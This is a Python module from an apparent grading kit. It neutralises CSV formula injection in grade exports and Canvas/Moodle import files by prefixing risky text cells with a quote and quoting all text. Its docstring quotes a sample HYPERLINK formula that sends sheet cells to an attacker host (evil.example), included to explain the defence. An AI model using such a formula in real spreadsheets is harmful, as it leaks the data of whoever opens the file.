"""Every CSV the kit writes (export.py's grades, canvas.py's and moodle.py's imports) is made
here, so that a spreadsheet opening one runs nothing a student wrote.

Names and ids reach these files from LMS rosters and from the names of handed-in files, which
students choose, and a spreadsheet reads a cell beginning with =, +, -, @, a tab or a carriage
return as a formula (`=HYPERLINK("http://evil.example/?d="&A1,"Click")` sends the sheet's
cells away). As OWASP's CSV-injection guidance says, such a text cell gets a single quote in
front, which spreadsheets take as "this is text", and every text cell is written in double
quotes, so that a spreadsheet splitting on its own locale's separator (";" or a tab) cannot cut
a cell into a new one that begins with "=". The kit's own numbers (points, a penalty: a
Number) are written bare and unchanged, -2 as -2, so they stay numbers. The LMS importers find
a student by a cell no student writes (Canvas's user id, Moodle's email), and a CSV reader
takes the quotes off.
"""

from __future__ import annotations

import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Number(float):
    """A number the kit writes, as points() formats it (2.5, 0.4, 3): csv.writer writes a
    float by its repr, unquoted."""

    def __repr__(self):
        return f"{self:g}"

    __str__ = __repr__


def points(value) -> Number:
    """Points as every CSV of the kit writes them (2.5, 0.4, 3), the kit's CSV and the LMS
    files alike, so that both say the same number."""
    return Number(value)


def inert(cell):
    """A cell a spreadsheet shows and does not run: a number as it is, a text beginning as a
    formula does with a single quote in front."""
    if isinstance(cell, int | float):
        return cell
    text = str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows) -> str:
    """The CSV of `rows` (lines ending in \\r\\n), every cell through inert(): numbers bare,
    text quoted."""
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_NONNUMERIC).writerows(
        [inert(cell) for cell in row] for row in rows)
    return text.getvalue()
